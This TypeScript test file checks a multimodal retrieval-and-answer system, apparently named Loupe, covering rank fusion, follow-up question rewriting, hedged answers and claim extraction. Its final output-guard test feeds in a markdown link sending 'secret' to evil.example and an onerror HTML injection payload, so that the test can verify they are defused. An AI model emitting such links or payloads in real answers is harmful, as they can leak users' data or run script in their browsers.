import { describe, expect, it } from "vitest";
import { EMPTY_VOCABULARY } from "../../src/inference/vocabulary.ts";
import { reciprocalRankFusion } from "../../src/rag/fusion.ts";
import { objectCheck, probabilityOf } from "../../src/rag/ground.ts";
import { composeOffline } from "../../src/rag/offline-composer.ts";
import { AnswerGuard } from "../../src/rag/output-guard.ts";
import { parseQuestion } from "../../src/rag/question-parser.ts";
import type { Citation, Evidence } from "../../src/rag/types.ts";
import { understandTurn } from "../../src/rag/understand.ts";
import { extractClaims } from "../../src/rag/verify.ts";
import { shippedVocabulary } from "./pack-vocabulary.ts";

const vocabulary = await shippedVocabulary();

function citation(id: string, overrides: Partial<Citation> = {}): Citation {
  return {
    id,
    kind: "image",
    mediaUrl: `/v1/media/${id}`,
    thumbnailUrl: `/v1/media/${id}/thumbnail`,
    start: null,
    end: null,
    question: null,
    answer: null,
    score: 0.5,
    ...overrides,
  };
}

describe("reciprocalRankFusion", () => {
  it("sums 1/(k+rank) over lists and keeps the best raw score", () => {
    const fused = reciprocalRankFusion({
      k: 60,
      lists: [
        {
          name: "text",
          items: [
            { id: "a", score: 0.3, value: 1 },
            { id: "b", score: 0.2, value: 2 },
          ],
        },
        {
          name: "att_1",
          items: [
            { id: "b", score: 0.9, value: 2 },
            { id: "c", score: 0.8, value: 3 },
          ],
        },
      ],
    });
    // b: 1/62 + 1/61 = 0.032518; a: 1/61 = 0.016393; c: 1/62 = 0.016129.
    expect(fused.map((item) => item.id)).toEqual(["b", "a", "c"]);
    expect(fused[0]?.fused).toBeCloseTo(1 / 62 + 1 / 61, 10);
    expect(fused[0]?.bestScore).toBe(0.9);
    expect(fused[0]?.scores).toEqual({ text: 0.2, att_1: 0.9 });
  });
});

describe("understandTurn", () => {
  it("turns 'what about the star?' into the earlier question about the star, on the earlier image", () => {
    const image = { bytes: new Uint8Array([1, 2, 3]) };
    const turn = understandTurn({
      vocabulary,
      question: "What about the star?",
      history: [
        { role: "user", content: "What color is the circle?", images: [image] },
        { role: "assistant", content: "The circle is red [att_1].", citations: ["att_1"] },
      ],
    });
    expect(turn.standaloneQuestion).toBe("What color is the star?");
    expect(turn.images).toEqual([{ evidenceId: "att_1", image, attached: true }]);
  });

  it("numbers images across the conversation and uses the current turn's", () => {
    const first = { bytes: new Uint8Array([1]) };
    const second = { bytes: new Uint8Array([2]) };
    const turn = understandTurn({
      vocabulary,
      question: "How many stars are there?",
      images: [second],
      history: [{ role: "user", content: "Is there a red circle?", images: [first] }],
    });
    expect(turn.images.map((image) => image.evidenceId)).toEqual(["att_2"]);
  });

  it("keeps corpus questions off the earlier image and retrieves by description", () => {
    const turn = understandTurn({
      vocabulary,
      question: "Is there an image with a red star and a blue circle?",
      history: [{ role: "user", content: "How many stars?", images: [{ bytes: new Uint8Array([1]) }] }],
    });
    expect(turn.images).toEqual([]);
    expect(turn.retrievalText).toBe("a red star and a blue circle");
  });

  it("looks at a stored item the question names", () => {
    const turn = understandTurn({
      vocabulary,
      question: "How many circles are in img_0123456789abcdef?",
    });
    expect(turn.images).toEqual([
      { evidenceId: "img_0123456789abcdef", image: { id: "img_0123456789abcdef" }, attached: false },
    ]);
  });
});

describe("objectCheck", () => {
  const distribution = [
    { answer: "2", probability: 0.6 },
    { answer: "0", probability: 0.3 },
    { answer: "yes", probability: 0.1 },
  ];
  it("checks a colored shape by presence and a bare shape by count", () => {
    expect(objectCheck({ color: "red", shape: "star" })?.question).toBe("Is there a red star?");
    expect(objectCheck({ color: "red", shape: "star" })?.score(distribution)).toBe(0.1);
    expect(objectCheck({ shape: "star" }, vocabulary)?.question).toBe("How many stars are there?");
    expect(objectCheck({ shape: "star" })?.score(distribution)).toBeCloseTo(0.7);
    expect(objectCheck({ shape: "star", count: 2 })?.score(distribution)).toBe(0.6);
    expect(objectCheck({ size: "small" })).toBeUndefined();
    expect(probabilityOf(distribution, "no")).toBe(0);
  });
});

describe("composeOffline", () => {
  const attachment: Evidence = {
    citation: citation("att_1", { mediaUrl: null, thumbnailUrl: null, score: 1 }),
    attachment: true,
    text: "",
    findings: [
      {
        question: "How many red objects are there?",
        answer: "3",
        probability: 0.4,
        alternatives: [],
        source: "vqa",
      },
    ],
  };

  it("hedges a low-probability VQA answer and cites the image", () => {
    const answer = composeOffline({
      intent: parseQuestion("How many red objects are there?", vocabulary),
      standaloneQuestion: "How many red objects are there?",
      evidence: [attachment],
      turnImageIds: ["att_1"],
    });
    expect(answer).toEqual({
      text: "There are probably 3 red objects [att_1].",
      answered: true,
      confidence: 0.4,
    });
  });

  it("prefers a stored triple's answer and cites the triple", () => {
    const answer = composeOffline({
      intent: parseQuestion("What color is the star?", vocabulary),
      standaloneQuestion: "What color is the star?",
      evidence: [
        {
          ...attachment,
          findings: [
            {
              question: "What colour is the star?",
              answer: "green",
              probability: 0.97,
              alternatives: [],
              source: "triple",
              tripleId: "tri_abcdef123456",
            },
            {
              question: "What color is the star?",
              answer: "blue",
              probability: 0.6,
              alternatives: [],
              source: "vqa",
            },
          ],
        },
      ],
      turnImageIds: ["att_1"],
    });
    expect(answer.text).toBe(
      "The star is green [att_1] [tri_abcdef123456] (a stored answer for this image).",
    );
  });

  it("names the segment and its times for a when-question", () => {
    const answer = composeOffline({
      intent: parseQuestion("When does the green square move left?", vocabulary),
      standaloneQuestion: "When does the green square move left?",
      evidence: [
        {
          citation: citation("seg_aaaaaa111111", { kind: "video_segment", start: 4, end: 6, score: 0.41 }),
          attachment: false,
          text: "",
          findings: [],
          videoId: "vid_x",
        },
        {
          citation: citation("seg_bbbbbb222222", { kind: "video_segment", start: 0, end: 2, score: 0.2 }),
          attachment: false,
          text: "",
          findings: [],
          videoId: "vid_x",
        },
      ],
      turnImageIds: [],
    });
    expect(answer.text).toBe(
      "The green square is moving left from 4 s to 6 s of video vid_x [seg_aaaaaa111111].",
    );
    expect(answer.answered).toBe(true);
  });

  it("declines off-domain questions whatever the retrieval returned", () => {
    const answer = composeOffline({
      intent: parseQuestion("Who painted the Mona Lisa?", vocabulary),
      standaloneQuestion: "Who painted the Mona Lisa?",
      evidence: [
        { citation: citation("img_aaaaaa111111", { score: 0.9 }), attachment: false, text: "", findings: [] },
      ],
      turnImageIds: [],
    });
    expect(answer.answered).toBe(false);
    expect(answer.text).toMatch(/^The corpus does not answer this question/);
  });

  describe("with a pack without a VQA head", () => {
    const stored = (id: string, score: number): Evidence => ({
      citation: citation(id, { score }),
      attachment: false,
      text: "",
      findings: [],
    });

    it("lists the closest matches by similarity and says they are not checked", () => {
      const answer = composeOffline({
        intent: parseQuestion("Find a red circle", EMPTY_VOCABULARY),
        standaloneQuestion: "Find a red circle",
        evidence: [stored("img_aaaaaa111111", 0.8), stored("img_bbbbbb222222", 0.1)],
        turnImageIds: [],
        canGround: false,
      });
      expect(answer.text).toBe(
        "The closest matches in the corpus by similarity alone (not checked) are img_aaaaaa111111 [img_aaaaaa111111].",
      );
      expect(answer.answered).toBe(true);
    });

    it("says it cannot tell what an attached image shows instead of guessing", () => {
      const answer = composeOffline({
        intent: parseQuestion("What color is the star?", vocabulary),
        standaloneQuestion: "What color is the star?",
        evidence: [{ ...attachment, findings: [] }, stored("img_aaaaaa111111", 0.2)],
        turnImageIds: ["att_1"],
        canGround: false,
      });
      expect(answer.answered).toBe(false);
      expect(answer.text).toBe(
        "The model pack has no VQA head, so without an LLM Loupe cannot tell what an image shows or check a match. " +
          'Nothing stored is close enough to "What color is the star?" to answer from the corpus.',
      );
    });

    it("still answers from a stored triple's answer", () => {
      const answer = composeOffline({
        intent: parseQuestion("What color is the star?", vocabulary),
        standaloneQuestion: "What color is the star?",
        evidence: [
          {
            ...attachment,
            findings: [
              {
                question: "What colour is the star?",
                answer: "green",
                probability: 0.97,
                alternatives: [],
                source: "triple",
                tripleId: "tri_abcdef123456",
              },
            ],
          },
        ],
        turnImageIds: ["att_1"],
        canGround: false,
      });
      expect(answer.text).toContain("The star is green [att_1] [tri_abcdef123456]");
    });
  });
});

describe("extractClaims", () => {
  it("reads color, count, presence, size and position claims with the ids they cite", () => {
    const claims = extractClaims({
      answer:
        "The star is blue [att_1]. There are 2 red objects [img_abcdef123456]. It also shows a green circle and no yellow square. The red star is on the left [att_1]. The blue circle is large.",
      defaultEvidenceIds: ["att_1"],
      vocabulary,
    });
    expect(
      claims.map(({ question, stated, evidenceIds }) => [question, stated, evidenceIds.join(",")]),
    ).toEqual([
      ["What color is the star?", "blue", "att_1"],
      ["How many red objects are there?", "2", "img_abcdef123456"],
      ["Is there a green circle?", "yes", "att_1"],
      ["Is there a yellow square?", "no", "att_1"],
      ["Is the red star on the left or the right?", "left", "att_1"],
      ["Is the blue circle small or large?", "large", "att_1"],
    ]);
  });

  it("makes no claim from a sentence that cites nothing when the turn has no single image", () => {
    expect(extractClaims({ answer: "The star is blue.", vocabulary })).toEqual([]);
  });
});

describe("AnswerGuard", () => {
  it("defuses markdown images, links and HTML tags, also when split across deltas", () => {
    const guard = new AnswerGuard();
    const deltas = [
      "The star is red. !",
      "[x](https://evil.example/?q=secret) <",
      "img src=x onerror=alert(1)> a < b!",
    ];
    const out = deltas.map((delta) => guard.push(delta)).join("") + guard.flush();
    expect(out).toBe(
      "The star is red. x (https[:]//evil.example/?q=secret) ‹img src=x onerror=alert(1)> a < b!",
    );
  });
});
